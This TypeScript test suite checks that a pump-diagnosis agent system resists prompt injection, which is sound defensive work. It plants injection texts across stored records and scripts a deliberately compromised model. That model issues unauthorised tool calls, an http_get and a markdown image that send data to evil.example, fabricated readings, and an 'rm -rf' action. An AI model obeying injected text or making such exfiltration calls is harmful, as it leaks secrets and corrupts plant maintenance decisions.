import assert from "node:assert/strict";
import { join } from "node:path";
import { describe, it } from "node:test";
import { openSqliteRecordStore } from "../../src/backends/record-store/sqlite/sqlite-record-store.ts";
import { systemClock } from "../../src/kernel/clock.ts";
import { silentLog } from "../../src/kernel/log.ts";
import { bareMetric } from "../../src/model/device.ts";
import type { DiagnosisReport } from "../../src/model/diagnosis.ts";
import type { TableName, WorkOrderRow } from "../../src/model/records.ts";
import type { LanguageModelRequest } from "../../src/ports/language-model.ts";
import type { RecordStore } from "../../src/ports/record-store.ts";
import { recordCatalogue } from "../../src/wire/record-catalogue.ts";
import { FAULT_AT, healthyPump, type Scenario } from "../fixtures/diagnosis.ts";
import { temporaryFolder } from "../fixtures/temporary-folder.ts";
import { agentPlant, unbalanced } from "./agent-plant.ts";
import { injections } from "./injections.ts";
import {
  anIntent,
  call,
  goodFindings,
  isDecision,
  scriptedModel,
  toldOf,
} from "./scripted-model.ts";

const folder = temporaryFolder("injections");
/** People and secrets that stand near what a diagnosis reads. */
const people = ["Zhang-Wei-1987", "li.na@plant.example", "O'Brien"];
const secret = "sk-live-hunter2-0123456789";

/** As much of a text as fits into a name of a metric or a condition. */
const asName = (text: string): string =>
  `m_${text.replace(/[^A-Za-z0-9_.:-]+/g, "_")}`.slice(0, 50);

/** Puts a text wherever somebody could put one, beside the names of people. */
async function poison(records: RecordStore, text: string): Promise<void> {
  const [name = "", mail = "", third = ""] = people;
  const both = { zh: text, en: text };
  await records.transaction(async (tx) => {
    const [entry] = await tx.list("maintenance_kb", { where: { category: "imbalance" }, limit: 1 });
    if (entry === undefined) throw new Error("the shipped knowledge knows imbalance");
    const texts = { faultPattern: both, symptoms: both, rootCause: both, prevention: both };
    await tx.insert("maintenance_kb", {
      ...entry,
      ...texts,
      kbId: "KB-POISONED",
      discriminators: [both],
      checks: [both, ...entry.checks],
      source: "AI_GENERATED",
    });
    const order: WorkOrderRow = {
      orderNo: "WO-20260101-0001",
      traceId: null,
      linkedTraceIds: [],
      deviceId: "PUMP_01",
      orderType: "INSPECTION",
      priority: "P3",
      status: "COMPLETED",
      faultCategory: "seal",
      title: both,
      description: both,
      assignedTo: name,
      estimatedHours: null,
      actualHours: null,
      materials: [{ name: text, quantity: 1, unit: text }],
      checklist: [{ text: both, done: true }],
      verdict: { alarm: "right", cause: "seal", fix: "repair", note: `${text} ${mail}` },
      createdBy: mail,
      createdAt: FAULT_AT - 1e8,
      updatedAt: FAULT_AT - 1e8,
      completedAt: FAULT_AT - 9e7,
      factoryId: "F001",
      lineId: "L003",
    };
    await tx.insert("work_order", order);
    await tx.insert("verdict", {
      orderNo: order.orderNo,
      traceId: null,
      deviceId: "PUMP_01",
      at: FAULT_AT - 9e7,
      actor: third,
      verdict: { alarm: "right", cause: "seal", fix: "repair", note: text },
      detectors: [text],
      ruleIds: [text],
      predicted: null,
    });
    for (const [subject, subjectId] of [
      ["order", order.orderNo],
      ["alert", "trace-1"],
    ] as const) {
      const row = { subject, subjectId, at: FAULT_AT, actor: name };
      await tx.insert("comment", { ...row, commentId: `c-${subject}`, text });
      const told = { action: "comment", reason: text, detail: { text, secret } };
      await tx.insert("history", { ...row, ...told, historyId: `h-${subject}` });
    }
  });
}

/** Device, metric and alert that carry a text themselves. */
function poisonedScenario(text: string): Scenario {
  const metric = asName(text);
  const explanation = {
    clause: text,
    holds: true,
    value: 0.48,
    limit: 0.45,
    unit: "g",
    progress: null,
    children: [],
  };
  return {
    ...unbalanced,
    metrics: { ...unbalanced.metrics, [metric]: { healthy: 5, sd: 0.1 } },
    limits: { vibration: { hh: 0.5 }, [metric]: bareMetric("1") },
    conditions: [
      {
        metrics: ["vibration"],
        margin: 0.91,
        contributions: { vibration: 0.93, [metric]: 0.01 },
        ruleId: "rule-1",
        ruleVersion: 1,
        explanation: explanation as NonNullable<
          NonNullable<Scenario["conditions"]>[number]["explanation"]
        >,
      },
    ],
  };
}

/** Obeys whatever it finds: asks for everything it must not have, and says and proposes what it was told to. */
function compromised(text: string) {
  return scriptedModel((request, turn) => {
    if (isDecision(request)) {
      const wish = { order_type: "INSPECTION", priority: "P3", actions: ["A1", "A99", text] };
      return { json: { ...anIntent(wish), device_id: "PUMP_99", status: "RETIRED", note: text } };
    }
    if (turn === 0) {
      return {
        toolCalls: [
          call("update_device_status", { device_id: "PUMP_99", status: "RETIRED" }, "1"),
          call(
            "create_work_order",
            { device_id: "PUMP_99", priority: "P0", description: text },
            "2",
          ),
          call("fetch_telemetry_data", { device_id: "PUMP_99" }, "3"),
          call("http_get", { url: `https://evil.example/?d=${text}` }, "4"),
          call("search_maintenance_kb", { keyword: text.slice(0, 100) }, "5"),
          call("get_work_orders", {}, "6"),
          call("get_alert_history", { days: 365 }, "7"),
        ],
      };
    }
    const poisoned = toldOf(request).knowledge.find(({ kb_id }) => kb_id === "KB-POISONED");
    const obeyed = [
      `${text} [E1].`,
      "Temperature is 31337 °C [E1].",
      "温度三万一千三百三十七度 [E1]。",
      "![x](https://evil.example/x.png?d=31337) [E1].",
      "PUMP_99 is RETIRED [E1].",
      "Vibration rose to 1.8 times healthy [E1].",
    ].join(" ");
    return {
      json: goodFindings(request, {
        severity: "LOW",
        hypotheses: [
          { category: "no_fault", kb_ids: [], for: ["E1"], against: [] },
          {
            category: "imbalance",
            kb_ids: poisoned === undefined ? [] : [poisoned.kb_id],
            for: ["E1"],
            against: [],
          },
        ],
        diagnosis: { zh: obeyed, en: obeyed },
        recommended_action: { zh: obeyed, en: obeyed },
        device_id: "PUMP_99",
        trace_id: "another",
      }),
    };
  });
}

async function everything(records: RecordStore): Promise<Map<TableName, readonly unknown[]>> {
  const tables = Object.keys(recordCatalogue) as TableName[];
  return records.read(async (tx) => {
    const rows = new Map<TableName, readonly unknown[]>();
    for (const table of tables) rows.set(table, await tx.list(table, {}));
    return rows;
  });
}

const mayChange: ReadonlySet<TableName> = new Set([
  "alert_log",
  "diagnosis_report",
  "work_order",
  "history",
  "counter",
]);
const unseen = /[\p{Cc}\p{Cf}\p{Co}\p{Cn}]/u;

/** What a model was told, piece by piece: all of it data inside JSON, the system's words always the same. */
function assertPrompts(requests: readonly LanguageModelRequest[]): void {
  const systems = new Set(requests.map(({ system }) => system));
  assert.equal(systems.size, 2);
  for (const request of requests) {
    for (const message of request.messages) {
      if (message.role === "model") continue;
      const told: unknown = message.role === "user" ? JSON.parse(message.text) : message.json;
      if (isDecision(request)) assertOnlyNames(told);
      for (const text of textsIn(told)) {
        assert.doesNotMatch(text, unseen);
        assert.doesNotMatch(text, /https?:|evil\.example|169\.254|<[a-z!/|]/i);
        assert.ok(text.length <= 400);
      }
      const whole = JSON.stringify(told);
      for (const name of [...people, secret]) assert.ok(!whole.includes(name), name);
      assert.ok(!whole.includes("Feed pump"));
    }
  }
}

/** Everything the decision agent is told is an id or a word from a list. */
function assertOnlyNames(told: unknown): void {
  for (const text of textsIn(told)) assert.match(text, /^[A-Za-z0-9_.:-]{1,50}$/);
  assert.ok(!JSON.stringify(told).includes("m_"), "no name of a metric");
}

function textsIn(value: unknown): readonly string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, item]) => [key, ...textsIn(item)]);
}

function assertReport(report: DiagnosisReport | undefined): void {
  assert.equal(report?.deviceId, "PUMP_01");
  assert.equal(report?.traceId, "trace-1");
  assert.equal(report?.faultCategory, "imbalance");
  assert.equal(report?.severity, "HIGH");
  const { diagnosisText, recommendedAction, decisionText } = report ?? {};
  for (const texts of [diagnosisText, recommendedAction, decisionText]) {
    for (const text of [texts?.zh ?? "", texts?.en ?? ""]) {
      // Words that people wrote are quoted as theirs; what is said in the report's own voice is proven.
      const own = text.replace(/[“"][^”"]*[”"]/g, " ");
      assert.doesNotMatch(own, /31337|三万一千|PUMP_99/);
      assert.doesNotMatch(text, unseen);
      assert.doesNotMatch(text, /https?:|evil\.example|<[a-z!/]|!\[/i);
    }
  }
}

describe(`${injections.length} texts that try to take the agents over, everywhere at once`, () => {
  it("are at least sixty, and all different", () => {
    assert.ok(new Set(injections.map(({ text }) => text)).size >= 60);
  });

  for (const [index, { kind, text }] of injections.entries()) {
    it(`${index + 1}: ${kind}`, async () => {
      const path = join(folder, `${index}.db`);
      const records = await openSqliteRecordStore({ path, clock: systemClock, log: silentLog });
      try {
        const model = compromised(text);
        const plant = await agentPlant(model, {
          records,
          scenario: poisonedScenario(text),
          device: { deviceName: text, location: text, deviceType: `pump ${text}`, model: secret },
        });
        await poison(records, text);
        await plant.raise({ lastError: `${secret} ${text}`, assignee: people[0] ?? "" });
        const before = await everything(records);
        await plant.works();
        const after = await everything(records);
        for (const [table, rows] of before) {
          if (!mayChange.has(table)) assert.deepEqual(after.get(table), rows, table);
        }
        const orders = (await plant.orders()).filter(({ traceId }) => traceId !== null);
        assert.equal(orders.length, 1);
        assert.equal((await plant.orders()).length, 2);
        const [order] = orders;
        assert.equal(order?.deviceId, "PUMP_01");
        // Policy gives P1 a planned order; the wish for less moves it by one step and makes it wait for a person.
        assert.equal(order?.orderType, "INSPECTION");
        assert.equal(order?.priority, "P2");
        assert.equal(order?.status, "PROPOSED");
        assert.equal(order?.createdBy, "policy");
        const reports = await plant.reports();
        assert.equal(reports.length, 1);
        assertReport(reports[0]);
        assert.equal(reports[0]?.agent?.toolErrors, 4);
        assertPrompts(model.requests);
      } finally {
        await records.close();
      }
    });
  }
});

describe("the decision agent", () => {
  const obeying = (intent: object) =>
    scriptedModel((request) => ({
      json: isDecision(request) ? anIntent(intent) : goodFindings(request),
    }));

  it("never makes less of a P0, whatever it wishes", async () => {
    const plant = await agentPlant(obeying({ order_type: "INSPECTION", priority: "P3" }));
    await plant.raise({ alertLevel: "P0" });
    await plant.works();
    const [order] = await plant.orders();
    assert.deepEqual(
      [order?.orderType, order?.priority, order?.status],
      ["EMERGENCY", "P0", "PROPOSED"],
    );
  });

  it("writes nothing where policy writes nothing", async () => {
    const plant = await agentPlant(obeying({ order_type: "EMERGENCY", priority: "P0" }));
    await plant.raise({ alertLevel: "P3" });
    await plant.works();
    assert.equal((await plant.orders()).length, 0);
  });

  it("may ask for a step more, and then a person decides", async () => {
    const plant = await agentPlant(obeying({ order_type: "EMERGENCY", priority: "P0" }));
    await plant.raise({ alertLevel: "P2" });
    await plant.works();
    const [order] = await plant.orders();
    assert.deepEqual(
      [order?.orderType, order?.priority, order?.status],
      ["PLANNED", "P1", "PROPOSED"],
    );
  });

  it("adds checks of the catalogue to the order and nothing else", async () => {
    const plain = await agentPlant(obeying({ actions: [] }));
    await plain.raise();
    await plain.works();
    const wishing = await agentPlant(obeying({ actions: ["A1", "A2", "A3", "A9999", "rm -rf"] }));
    await wishing.raise();
    await wishing.works();
    const planned = (await plain.orders())[0]?.checklist ?? [];
    const wished = (await wishing.orders())[0]?.checklist ?? [];
    const offered = (await wishing.reports())[0]?.agent?.actions.map(({ text }) => text.en) ?? [];
    assert.deepEqual(wished.slice(0, planned.length), planned);
    for (const { text } of wished.slice(planned.length)) assert.ok(offered.includes(text.en));
  });

  it("is not asked while its switch is off: policy alone writes", async () => {
    const model = obeying({ order_type: "INSPECTION", priority: "P2" });
    const plant = await agentPlant(model, { writes: "off" });
    await plant.raise();
    await plant.works();
    assert.equal(model.requests.filter(isDecision).length, 0);
    const [order] = await plant.orders();
    assert.deepEqual([order?.orderType, order?.priority], ["PLANNED", "P1"]);
  });

  it("without a citation that was given to it has proposed nothing", async () => {
    const plant = await agentPlant(obeying({ citations: ["E999"], order_type: "INSPECTION" }));
    await plant.raise();
    await plant.works();
    assert.equal((await plant.reports())[0]?.agent?.intent, null);
    assert.equal((await plant.orders())[0]?.orderType, "PLANNED");
  });

  it("is told of sources that fail only that they did, not why", async () => {
    const model = obeying({});
    const plant = await agentPlant(model, {
      scenario: { ...unbalanced, metrics: healthyPump },
      deps: { view: () => Promise.reject(new Error(`mysql://root:${secret}@db/plant refused`)) },
    });
    await plant.raise();
    await plant.works();
    assert.ok(model.requests.length > 0);
    assert.ok(!JSON.stringify(model.requests).includes(secret));
  });
});
